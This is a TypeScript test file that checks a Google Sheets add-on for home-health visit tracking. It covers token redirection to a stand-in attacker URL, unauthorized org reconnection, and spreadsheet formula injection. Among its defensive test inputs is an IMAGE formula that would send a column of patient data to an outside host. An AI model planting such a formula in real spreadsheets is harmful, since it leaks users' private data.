/**
 * What an editor of the owner's sheet cannot do: send the owner's ID token anywhere but the
 * service the add-on was built for (a document property naming another URL changes
 * nothing), connect the sheet to another org unless they own the one it is connected to,
 * or turn a form answer into a live formula in the Visits tab. The built add-on in node:vm
 * against the real service, on the sample owner sheet.
 */
import { describe, expect, it } from 'vitest';
import { addonEnv, type AddonEnv } from './support/addon-env.ts';
import { useSampleOrg, type SampleOrg } from './support/sample-org.ts';

const OWNER = 'owner@guarded.example';
const ATTACKER = 'https://collector.attacker.example';

let org: SampleOrg;
let env: AddonEnv;

useSampleOrg('guarded', OWNER, (ready) => {
  org = ready;
  env = ready.env;
});

/** Another Google account at the same sheet, as far as Connect goes: the add-on with the sheet's document properties, signed in as `email`. */
function editorOfTheSheet(email: string): AddonEnv {
  const editor = addonEnv({ buildDir: org.buildDir, transport: (r) => org.service.fetch(r), token: () => org.service.idToken(email) });
  for (const [key, value] of env.properties.document.values) editor.properties.document.values.set(key, value);
  return editor;
}

const paths = (e: AddonEnv) => e.urlFetch.sent.map((r) => `${r.method} ${r.url.slice(org.service.url.length)}`);

describe('where the ID token goes', () => {
  it('is the built service whatever a document property says: every fetch of Connect, Sync, a form submission and the 1099 report', () => {
    env.properties.document.values.set('VL_SERVICE_URL', ATTACKER);
    const real = env.urlFetch.transport;
    // Nothing leaves the machine whatever the add-on asks for: a URL other than the service's is refused here, and shows in `sent`.
    env.urlFetch.transport = (r) => (r.url.startsWith(`${org.service.url}/`) ? real(r) : { error: 'not the test service' });
    env.urlFetch.sent = [];
    try {
      expect(env.run('sidebarState')).toMatchObject({ service: org.service.url, orgId: 'guarded', connected: true });
      expect(env.run('connectService', { orgId: 'guarded', serviceUrl: ATTACKER })).toMatchObject({ ok: true });
      expect(env.run('syncNow')).toMatchObject({ ok: true });
      env.book.tab('Therapists')!.put(2, 4, 'tom.becker@gmail.example');
      expect(env.run('syncNow')).toMatchObject({ ok: true });
      const form = env.formApp.forms[0]!;
      const event = form.submit(
        'tom.becker@gmail.example',
        {
          Agency: 'Oakridge Home Health',
          Discipline: 'PT',
          'Visit type': 'Routine visit',
          'Patient name': 'Alvarez, Rosa',
          'Visit date': '2026-03-30',
          'Visit note done?': 'Yes',
        },
        '2026-03-30 17:00:00',
      );
      expect(env.run('onFormSubmit', event)).toMatchObject({ status: 'OK', sync: 'Sent' });
      expect(env.run('report1099', 2026)).toMatchObject({ ok: true });
    } finally {
      env.urlFetch.transport = real;
    }
    const urls = env.urlFetch.sent.map((r) => r.url);
    expect(urls.length).toBeGreaterThan(10);
    for (const url of urls) expect(url.startsWith(`${org.service.url}/v1/orgs`)).toBe(true);
    expect(paths(env)).toContain('POST /v1/orgs/guarded/visits');
  });
});

describe('connecting the sheet to an org', () => {
  it('is refused to an editor who is no member, even with an org of their own that lists the owner: the sheet stays on its org', () => {
    const mallory = 'mallory@elsewhere.example';
    expect(org.service.call(mallory, 'post', '/v1/orgs', { id: 'mallory-org' }).status).toBe(201);
    // The lure: the owner is a member there, so the owner's Sync would be accepted by the service.
    expect(org.service.call(mallory, 'put', `/v1/orgs/mallory-org/members/${OWNER}`, { role: 'owner' }).status).toBe(200);
    const editor = editorOfTheSheet(mallory);
    const r = editor.run('connectService', { orgId: 'mallory-org' });
    expect(r.ok).toBe(false);
    expect(r.lines[0]).toMatch(/^This sheet is connected to the org "guarded": Your Google account is not a member of the org "guarded"/);
    expect(r.next).toBe('Only an owner of "guarded" can connect the sheet to another org.');
    expect(editor.properties.document.values.get('VL_ORG_ID')).toBe('guarded');
    // Only the question of who the caller is in the sheet's org was asked.
    expect(paths(editor)).toEqual(['GET /v1/orgs/guarded/me']);
  });

  it("is refused to a staff member, to the sheet's own org or another", () => {
    const staff = 'staff@guarded.example';
    expect(org.api('put', `/v1/orgs/guarded/members/${staff}`, { role: 'staff' }).status).toBe(200);
    const editor = editorOfTheSheet(staff);
    expect(editor.run('connectService', { orgId: 'guarded' })).toEqual({
      ok: false,
      title: 'Connect',
      lines: ['You are staff in the org "guarded": only its owner can connect a sheet to it.'],
      next: "Ask the org's owner to connect this sheet.",
    });
    const elsewhere = editor.run('connectService', { orgId: 'staff-own-org' });
    expect(elsewhere.lines).toEqual(['This sheet is connected to the org "guarded", where you are staff.']);
    expect(editor.properties.document.values.get('VL_ORG_ID')).toBe('guarded');
    expect(editor.log.of('DocumentProperties.setProperties')).toBe(0);
  });

  it("is the owner's: the owner moves the sheet to an org they create, and back", () => {
    const moved = env.run('connectService', { orgId: 'guarded-two' });
    expect(moved).toMatchObject({ ok: true, lines: ['Created the org "Sunrise Therapy Staffing" (guarded-two); you are its owner.'] });
    expect(env.properties.document.values.get('VL_ORG_ID')).toBe('guarded-two');
    expect(env.run('connectService', { orgId: 'guarded' })).toMatchObject({
      ok: true,
      lines: ['Connected to "Sunrise Therapy Staffing" (guarded).'],
    });
    expect(env.properties.document.values.get('VL_ORG_ID')).toBe('guarded');
  });

  it('asks the service, which answers who the caller is in the org: owner, staff, or no member at all', () => {
    expect(org.api('get', '/v1/orgs/guarded/me')).toEqual({ status: 200, body: { email: OWNER, role: 'owner' } });
    expect(org.service.call('staff@guarded.example', 'get', '/v1/orgs/guarded/me')).toEqual({
      status: 200,
      body: { email: 'staff@guarded.example', role: 'staff' },
    });
    expect(org.service.call('nobody@elsewhere.example', 'get', '/v1/orgs/guarded/me').status).toBe(403);
  });
});

describe('text from a form answer', () => {
  const FORMULA = '=IMAGE("https://x/?"&JOIN(",",E2:E999))';

  it('is written to the Visits tab as text, never a formula, and reaches the service as typed', () => {
    const form = env.formApp.forms[0]!;
    const visits = env.book.tab('Visits')!;
    const answers = {
      Agency: 'Oakridge Home Health',
      Discipline: 'PT',
      'Visit type': 'Routine visit',
      'Patient name': FORMULA,
      'MRN (if the agency uses one)': '+1555@x',
      'Visit date': '2026-03-31',
      'Visit note done?': 'Yes',
    };
    const out = env.run('onFormSubmit', form.submit('tom.becker@gmail.example', answers, '2026-03-31 18:00:00'));
    const row = visits.table().find((r) => r[0] === out.visitId)!;
    expect(row.slice(4, 6)).toEqual([FORMULA, '+1555@x']);
    expect([...visits.formulas.keys()]).toEqual([]);
    const stored = org.api('get', '/v1/orgs/guarded/visits').body.visits.find((v: { clientId: string }) => v.clientId === out.visitId);
    expect(stored.patient).toMatchObject({ name: FORMULA });
    // Read back and sent again by Sync, the name is unchanged and still text.
    expect(env.run('syncNow')).toMatchObject({ ok: true });
    expect(visits.table().find((r) => r[0] === out.visitId)![4]).toBe(FORMULA);
    expect([...visits.formulas.keys()]).toEqual([]);
  });
});
